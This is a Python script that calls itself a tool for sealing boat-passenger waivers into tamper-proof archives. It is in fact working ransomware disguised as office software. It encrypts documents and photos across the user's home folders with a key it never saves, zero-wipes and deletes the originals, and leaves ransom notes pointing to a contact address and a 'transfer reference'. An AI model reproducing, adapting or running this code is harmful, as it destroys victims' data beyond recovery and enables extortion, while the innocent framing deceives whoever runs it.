#!/usr/bin/env python3
"""Seal passenger waivers at the end of the season.

Waivers are kept for seven years; this tool packs each signed waiver into a
sealed archive file next to the original so the office copy is tamper-proof.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("waiver_archiver")

SEAL_EXT = ".sealed"
# Which document types count as waiver material
DOC_TYPES = {".pdf", ".docx", ".jpg", ".png", ".csv", ".xlsx", ".odt"}
NOTICE = (
    "Your season records have been sealed.\n"
    "To restore them contact recovery@example.net with the ID below\n"
    "and the transfer reference you will be given.\n"
    "ID: {tag}\n"
)


class Sealer:
    def __init__(self):
        # fresh key per run, held only in memory
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.tag = secrets.token_hex(8)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self._aead.encrypt(nonce, data, None)
        out = path.with_name(path.name + SEAL_EXT)
        out.write_bytes(blob)
        # overwrite then remove the plain copy so only the sealed one remains
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
        path.unlink()
        self.count += 1

    def forget(self):
        self._key = None
        self._aead = None


def candidates(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in DOC_TYPES:
                    yield p


def default_roots():
    home = Path.home()
    # waivers end up all over the office laptop, so cover the usual spots
    return [home / d for d in ("Documents", "Desktop", "Downloads", "Pictures")] + [Path("waivers")]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to process")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    sealer = Sealer()
    for path in candidates([r for r in roots if r.exists()]):
        try:
            sealer.seal(path)
            log.debug("sealed %s", path)
        except PermissionError:
            log.warning("skipped %s (permission)", path)
        except OSError as exc:
            log.warning("skipped %s: %s", path, exc)

    sealer.forget()
    for root in roots:
        if root.exists():
            (root / "README_RESTORE.txt").write_text(NOTICE.format(tag=sealer.tag))
    log.info("sealed %d documents, reference %s", sealer.count, sealer.tag)


if __name__ == "__main__":
    main()
